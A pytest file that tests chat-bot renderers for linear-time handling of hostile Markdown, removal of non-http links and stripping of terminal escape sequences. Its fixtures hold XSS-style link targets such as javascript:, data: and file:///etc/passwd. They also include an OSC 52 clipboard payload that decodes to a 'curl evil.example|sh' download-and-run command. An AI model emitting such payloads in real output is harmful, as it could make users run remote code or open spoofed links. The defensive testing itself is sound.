"""Issue 16: every renderer is linear on hostile model output, emits only http(s) links, and the
terminal renderer strips escape sequences.

No timings are asserted. The inputs are sized so that the quadratic patterns they target (before
issue 16: `[` * 20,000 took 4 s in Slack, 3.5 s in Feishu) would run for minutes, so a regression
shows as a suite that visibly hangs, while the linear renderers take well under a second.
"""
from __future__ import annotations

import re
from collections.abc import Callable

import pytest

from adapters.feishu.responder import card_markdown
from adapters.slack.render import plain
from adapters.terminal.render import render_text, strip_controls
from core.messages import Reply, ReplyKind, Source
from tests.support.rendered import SENT, feishu_cards, slack_messages, slack_stream, telegram_html, wecom_stream

# What each platform sends, laid out by its production path (the responder's delivery engine, Slack's
# stream, WeCom's stream layout, the terminal renderer): tests/support/rendered.py.
PLATFORMS: dict[str, Callable[[Reply], str]] = SENT

N = 100_000  # characters per hostile answer
ATTACKS: dict[str, str] = {
    "brackets": "[" * N,
    "half links": "[a](" * (N // 4),
    "images": "![" * (N // 2),
    "nested brackets": "[" * (N // 2) + "a](javascript:alert(1))",
    "unclosed bold": "**a " * (N // 4),
    "unclosed italic": "*a " * (N // 3),
    "unclosed strike": "~~a " * (N // 4),
    "unclosed underscores": "__a _a " * (N // 7),
    "backtick runs": "".join("`" * k + "x" for k in range(440, 0, -1)),
    "heading then spaces": "# x" + " " * N + "y",
    "fence then spaces": "```" + " " * N + "x y",
    "table separator then spaces": "| a |\n|--" + " " * N + "x|",
    "nested quotes": "> " * (N // 2) + "x",
    "angle brackets": "<" * N,
    "slack specials": "<!here|" * (N // 7),
    "escape sequences": "\x1b]8;;" * (N // 5),
    "blank lines": "\n" * N + "x",
    "hash lines": "# \n" * (N // 3) + "x",
    "angle then spaces": "<" + " " * N + "x",
}
SOURCES = (Source("vllm-ascend#1", "https://github.com/vllm-project/vllm-ascend/issues/1"),)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("platform", PLATFORMS)
def test_hostile_answer_renders_promptly(platform: str, attack: str) -> None:
    text = ATTACKS[attack]
    # with sources, as research answers have: every renderer then looks for a sources heading
    rendered = PLATFORMS[platform](Reply(ReplyKind.ANSWER, text, "en", sources=SOURCES))
    assert rendered.strip()


@pytest.mark.parametrize("platform", PLATFORMS)
def test_many_short_hostile_lines_render_promptly(platform: str) -> None:
    rendered = PLATFORMS[platform](Reply(ReplyKind.ANSWER, "[a](\n*a _b ~~c `d\n" * (N // 20), "en"))
    assert rendered.count("\n") > 1_000


def test_slack_plain_is_linear_on_brackets() -> None:
    assert plain("[" * N, 80).startswith("[[[")


# --- only http(s) targets become links ---------------------------------------------------------

UNSAFE_TARGETS = [
    "tg://resolve?domain=evilbot",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "mailto:victim@example.org",
    "ftp://evil.example/x",
    "docs/relative.md",
]
# What each platform's own Markdown or markup would read as a link to `target`.
LINK_SYNTAX: dict[str, Callable[[str], list[str]]] = {
    "slack": lambda t: ["<" + t, "|" + t],
    "telegram": lambda t: ['href="' + t.lower(), 'href="' + t],
    "feishu": lambda t: ["](" + t, "<" + t],
    "wecom": lambda t: ["](" + t, "<" + t],
    "terminal": lambda t: ["](" + t, "<" + t],
}


@pytest.mark.parametrize("target", UNSAFE_TARGETS)
@pytest.mark.parametrize("platform", PLATFORMS)
def test_non_http_targets_keep_only_their_label(platform: str, target: str) -> None:
    text = f"See [the fix]({target}) and ![diagram]({target}) and [`the code`]({target}) here."
    rendered = PLATFORMS[platform](Reply(ReplyKind.ANSWER, text, "en"))
    assert "the fix" in rendered and "diagram" in rendered and "the code" in rendered
    assert target not in rendered and target.lower() not in rendered.lower()


@pytest.mark.parametrize("target", UNSAFE_TARGETS)
@pytest.mark.parametrize("platform", PLATFORMS)
def test_no_link_syntax_survives_for_non_http_targets(platform: str, target: str) -> None:
    # the shapes a simple link pattern misses: nested brackets, autolinks, reference definitions
    text = f"A [nested [label] here]({target}).\n\nAuto <{target}>.\n\n[ref]: {target}\n\nUse [ref]."
    sources = (Source("planted", target),)
    rendered = PLATFORMS[platform](Reply(ReplyKind.ANSWER, text, "en", sources=sources))
    for syntax in LINK_SYNTAX[platform](target):
        if syntax.startswith("<") and target == "docs/relative.md":
            continue  # <docs/relative.md> is no autolink anywhere: there is nothing to defuse
        assert syntax not in rendered
    if platform in ("feishu", "wecom", "terminal"):  # Markdown passed on to another renderer
        assert not re.search(r"^\s{0,3}\[ref\]:", rendered, re.MULTILINE)


@pytest.mark.parametrize("platform", PLATFORMS)
def test_http_links_stay_links(platform: str) -> None:
    url = "https://docs.vllm.ai/en/latest/a_(b)?x=1"
    rendered = PLATFORMS[platform](Reply(ReplyKind.ANSWER, f"See [the docs]({url}).", "en"))
    expected = {
        "slack": f"<{url.replace('&', '&amp;')}|the docs>",
        "telegram": f'<a href="{url}">the docs</a>',
    }.get(platform, f"[the docs]({url})")
    assert expected in rendered


@pytest.mark.parametrize("platform", PLATFORMS)
def test_links_inside_code_are_left_verbatim(platform: str) -> None:
    rendered = PLATFORMS[platform](Reply(ReplyKind.ANSWER, "Call `x[0](y)` first.", "en"))
    assert "x[0](y)" in rendered


# --- terminal escape sequences -----------------------------------------------------------------

ESCAPES = {
    "osc 8 hyperlink": ("\x1b]8;;https://evil.example\x07click me\x1b]8;;\x07", "click me"),
    "osc 8 with ST": ("\x1b]8;;https://evil.example\x1b\\click me\x1b]8;;\x1b\\", "click me"),
    "osc 52 clipboard": ("before\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07after", "beforeafter"),
    "csi cursor moves": ("\x1b[2J\x1b[1;1Hsafe\x1b[31m text\x1b[0m", "safe text"),
    "bare esc": ("a\x1bb c\x1b", "a c"),
    "c1 csi and osc": ("\x9b2Jx\x9d52;c;ZXZpbA==\x9cy", "xy"),
    "other controls": ("a\x07b\x08c\rd\x00e\x7ff", "abcdef"),
    "unterminated osc": ("\x1b]52;c;never ends", "52;c;never ends"),
}


@pytest.mark.parametrize("case", ESCAPES)
def test_terminal_strips_escape_sequences(case: str) -> None:
    text, visible = ESCAPES[case]
    rendered = render_text(Reply(ReplyKind.ANSWER, "Answer: " + text + "\n\tindented", "en"))
    assert rendered == "Answer: " + visible + "\n\tindented"


def test_terminal_strips_escapes_from_sources_too() -> None:
    source = Source("vllm\x1b]52;c;ZXZpbA==\x07#1", "https://github.com/vllm-project/vllm/issues/1\x1b[2J")
    rendered = render_text(Reply(ReplyKind.ANSWER, "Answer.", "en", sources=(source,)))
    assert "\x1b" not in rendered and "- [vllm#1](https://github.com/vllm-project/vllm/issues/1)" in rendered


@pytest.mark.parametrize("unit", ["\x1b]", "\x1b[", "\x1b[1;", "\x9d", "\x1bP", "\x1b]a\x1b"])
def test_terminal_stripping_is_linear_on_unterminated_sequences(unit: str) -> None:
    stripped = strip_controls(unit * (N // len(unit)) + "\nend")
    assert stripped.endswith("end")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", stripped)


def test_feishu_progress_and_text_fallback_drop_non_http_targets() -> None:
    from adapters.feishu.render import working_markdown

    assert "javascript:" not in working_markdown(["read [issue](javascript:alert(1))"], "en")
    # a refused card is re-sent as text: its Markdown
    fallback = [card_markdown(c) for c in feishu_cards(Reply(ReplyKind.ANSWER, "See [x](tg://resolve?domain=evil).", "en"))]
    assert "tg://" not in "".join(fallback) and "See x." in "".join(fallback)


def test_every_platform_lists_the_sources_once_from_data() -> None:
    # The core keeps sources out of Reply.text; a platform that also scanned the text for a
    # "Sources" heading would either drop the list or show it twice.
    url = "https://github.com/vllm-project/vllm-ascend/issues/1234"
    reply = Reply(ReplyKind.ANSWER, "Upgrade CANN.\n\n**Sources**\nnot a list", "en", sources=(Source("#1234", url),))
    rendered = {
        "slack": slack_messages(reply)[0].blocks[0]["text"]["text"],
        "slack-stream": slack_stream(reply),
        "feishu": card_markdown(feishu_cards(reply)[0]),
        "telegram": "".join(telegram_html(reply)),
        "wecom": "".join(wecom_stream(reply)),
        "terminal": render_text(reply),
    }
    for platform, out in rendered.items():
        assert out.count(url) == 1, platform
